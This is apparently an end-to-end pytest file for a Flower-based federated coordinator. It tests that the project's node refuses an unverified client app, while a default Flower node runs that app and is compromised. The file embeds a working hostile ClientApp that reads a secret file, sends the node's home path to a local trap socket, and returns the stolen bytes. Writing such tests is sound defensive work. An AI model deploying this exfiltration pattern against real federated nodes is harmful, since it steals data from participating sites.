"""What the coordinator ships to a site: only the wheel's own relay runs there, whatever comes from the SuperLink.

A real SuperLink distributes a hostile app to two real nodes: ours, and one as Flower starts it by default. The second
shows that the app does what it says, so that the first shows something.
"""

import logging
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from logging.handlers import MemoryHandler
from multiprocessing.connection import Listener
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

from aggregator.carriers import Exchange, flower
from aggregator.carriers.flower import Flower, Servers
from clients.node_process import QUIET, Node, NodeProcess
from tests.e2e.sites import PATIENCE, free_ports, server_files, wait_until

pytestmark = pytest.mark.e2e

NODE_ENVIRONMENT = os.environ | QUIET | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
SECRET = b"torque settings of line 3"
CLIENT_APP = Path("rengo_relay") / "client_app.py"
HOSTILE = '''
"""Reads what it finds, calls home, and answers with its loot."""
import os, socket
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

loot = Path({secret!r}).read_bytes()
home = socket.create_connection(("127.0.0.1", {port}), timeout=5)
home.sendall(os.environ["FLWR_HOME"].encode())
home.close()
app = ClientApp()

@app.query()
def steal(message, context):
    return Message(RecordDict({{"answer": ConfigRecord({{"frame": loot}})}}), reply_to=message)
'''


@dataclass
class Site:
    """A node's files, and a service that says what it was asked."""

    folder: Path
    public_key: str
    asked: list[bytes]
    answer: bytes = b"answer"

    @property
    def log(self) -> str:
        path = self.folder / "flower" / "node.log"
        return path.read_text(errors="replace") if path.exists() else ""

    def node(self, superlink: str, authority: Path) -> Node:
        files = (authority, self.folder / "node.key", self.folder / "member.sock", self.folder / "service.key")
        return Node(superlink, *files, self.folder / "flower", free_ports(1)[0])


def make_site(folder: Path) -> Site:
    folder.mkdir()
    key = ec.generate_private_key(ec.SECP384R1())
    (folder / "node.key").write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption()))
    (folder / "service.key").write_bytes(bytes(32))
    public = key.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
    site = Site(folder, public, [])
    listener = Listener(str(folder / "member.sock"), family="AF_UNIX", authkey=bytes(32))

    def serve() -> None:
        while True:
            with listener.accept() as relay:
                site.asked.append(relay.recv_bytes())
                relay.send_bytes(site.answer)

    threading.Thread(target=serve, daemon=True).start()
    return site


@dataclass
class Shipped:
    """A hostile app has been sent to `ours` and to `bare`. `calls`: who called home."""

    answers: dict[str, bytes]
    ours: Site
    bare: Site
    calls: list[bytes]
    superlink: str
    authority: Path
    heard: MemoryHandler

    @property
    def told(self) -> list[str]:
        """What the carrier has logged."""
        return [record.getMessage() for record in self.heard.buffer]


@pytest.fixture(scope="module")
def shipped(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shipped]:
    folder = tmp_path_factory.mktemp("relay")
    files = server_files(folder)
    (folder / "secret").write_bytes(SECRET)
    calls: list[bytes] = []
    heard = MemoryHandler(capacity=1000, flushLevel=logging.CRITICAL + 1)
    logging.getLogger(flower.__name__).addHandler(heard)
    with socket.create_server(("127.0.0.1", 0)) as trap, pytest.MonkeyPatch.context() as patch:
        threading.Thread(target=collect, args=(trap, calls), daemon=True).start()
        app = shutil.copytree(flower.RELAY, folder / "app")
        hostile = HOSTILE.format(secret=str(folder / "secret"), port=trap.getsockname()[1])
        (app / CLIENT_APP).write_text(hostile)
        patch.setattr(flower, "RELAY", app)
        ours, bare = make_site(folder / "ours"), make_site(folder / "bare")
        port = free_ports(1)[0]
        carrier = Flower(
            Servers("127.0.0.1", port, *files),
            {"ours": ours.public_key, "bare": bare.public_key},
            folder / "coordinator",
        )
        assert carrier.online() == set()
        node = NodeProcess(ours.node(f"127.0.0.1:{port}", files[2]))
        plain = plain_node(bare.node(f"127.0.0.1:{port}", files[2]))
        try:
            wait_until(lambda: carrier.online() == {"ours", "bare"}, "both nodes are connected")
            answers = dict(carrier.exchange(Exchange(1, "keys", PATIENCE), {"ours": b"frame", "bare": b"frame"}))
            yield Shipped(answers, ours, bare, calls, f"127.0.0.1:{port}", files[2], heard)
        finally:
            node.stop()
            plain.terminate()
            carrier.close()
            plain.wait(PATIENCE)


def collect(trap: socket.socket, calls: list[bytes]) -> None:
    while True:
        try:
            connection, _ = trap.accept()
        except OSError:
            return  # the test is over
        with connection:
            calls.append(connection.recv(4096))


def plain_node(node: Node) -> subprocess.Popen[bytes]:
    """Flower's own program with Flower's own defaults: it runs whatever it is sent."""
    node.folder.mkdir()
    command = [str(Path(sys.executable).with_name("flower-supernode")), "--superlink", node.superlink]
    command += ["--root-certificates", str(node.authority), "--auth-supernode-private-key", str(node.key)]
    command += ["--host", "127.0.0.1", "--port", str(node.port)]
    environment = NODE_ENVIRONMENT | {"FLWR_HOME": str(node.folder)}
    with (node.folder / "node.log").open("ab") as log:
        return subprocess.Popen(command, env=environment, stdout=log, stderr=log, start_new_session=True)


def test_the_hostile_app_does_what_it_says_where_nothing_stops_it(shipped: Shipped) -> None:
    assert shipped.answers["bare"] == SECRET
    assert str(shipped.bare.folder / "flower").encode() in shipped.calls


def test_it_never_runs_at_our_node(shipped: Shipped) -> None:
    """Its first lines read a file and call home: neither has happened."""
    assert not any(str(shipped.ours.folder).encode() in call for call in shipped.calls)
    assert "ours" not in shipped.answers
    assert shipped.ours.asked == []
    assert not list((shipped.ours.folder / "flower").rglob("client_app.py"))  # it was not even unpacked


def test_our_nodes_log_and_the_coordinators_say_that_it_was_refused(shipped: Shipped) -> None:
    assert "FAB verification failed" in shipped.ours.log
    assert "FAB verification failed" not in shipped.bare.log
    [told] = [line for line in shipped.told if "no answer" in line]
    assert told.startswith("ours: ")
    assert "The FAB could not be verified" in told


@pytest.mark.scenario(4)
@pytest.mark.parametrize(("offset", "name"), [(10, "ours"), (-400, "bare")])
def test_flower_refuses_a_node_whose_clock_is_off(offset: int, name: str, shipped: Shipped, tmp_path: Path) -> None:
    """Seconds ahead of the coordinator's; the window is -305 to +5 and cannot be set. The node ends with 0 and does not
    say why: `Standing.time` and `doctor` are for that at the site, and the coordinator's log names the member."""
    shift = (
        "import datetime, sys, flwr.supernode.node_auth_http_interceptor as signing, clients.relay.node as node\n"
        f"now = signing.now; signing.now = lambda: now() + datetime.timedelta(seconds={offset})\n"
        "node.main(*sys.argv[1:])"
    )
    site: Site = getattr(shipped, name)
    running = site.node(shipped.superlink, shipped.authority)
    command = [sys.executable, "-c", shift, *running.command()[3:]]
    refused = f"carrier: {name}: is refused: its clock"
    with (tmp_path / "node.log").open("wb") as log:
        environment = NODE_ENVIRONMENT | {"FLWR_HOME": str(tmp_path)}
        subprocess.run(command, env=environment, stdout=log, stderr=log, timeout=PATIENCE, check=True)
    wait_until(lambda: any(line.startswith(refused) for line in shipped.told), "the coordinator names the member", 10)
